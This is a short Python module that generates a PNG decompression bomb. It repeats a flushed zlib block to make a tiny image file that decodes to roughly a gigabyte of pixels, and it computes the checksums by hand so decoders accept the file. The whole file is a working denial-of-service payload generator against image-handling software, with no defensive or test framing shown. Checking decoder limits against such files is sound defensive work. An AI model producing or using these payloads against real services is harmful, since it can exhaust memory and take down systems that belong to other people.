"""A decompression bomb: a small picture that takes a gigabyte to decode."""

from __future__ import annotations

import zlib


def bomb_png(side: int) -> bytes:
    """A black 8-bit grey PNG of side x side pixels, made without ever holding them."""
    row = bytes(1 + side)
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    # After a full flush nothing refers back: the row's bytes can stand any number of times.
    compressed = compressor.compress(row) + compressor.flush(zlib.Z_FULL_FLUSH)
    end = zlib.compressobj(9, zlib.DEFLATED, -15).flush()
    checksum = (len(row) * side % 65521) << 16 | 1  # Adler-32 of that many noughts
    data = b"\x78\xda" + compressed * side + end + checksum.to_bytes(4, "big")
    size = side.to_bytes(4, "big")
    header = _chunk(b"IHDR", size + size + bytes([8, 0, 0, 0, 0]))
    return b"\x89PNG\r\n\x1a\n" + header + _chunk(b"IDAT", data) + _chunk(b"IEND", b"")


def _chunk(name: bytes, data: bytes) -> bytes:
    return len(data).to_bytes(4, "big") + name + data + zlib.crc32(name + data).to_bytes(4, "big")
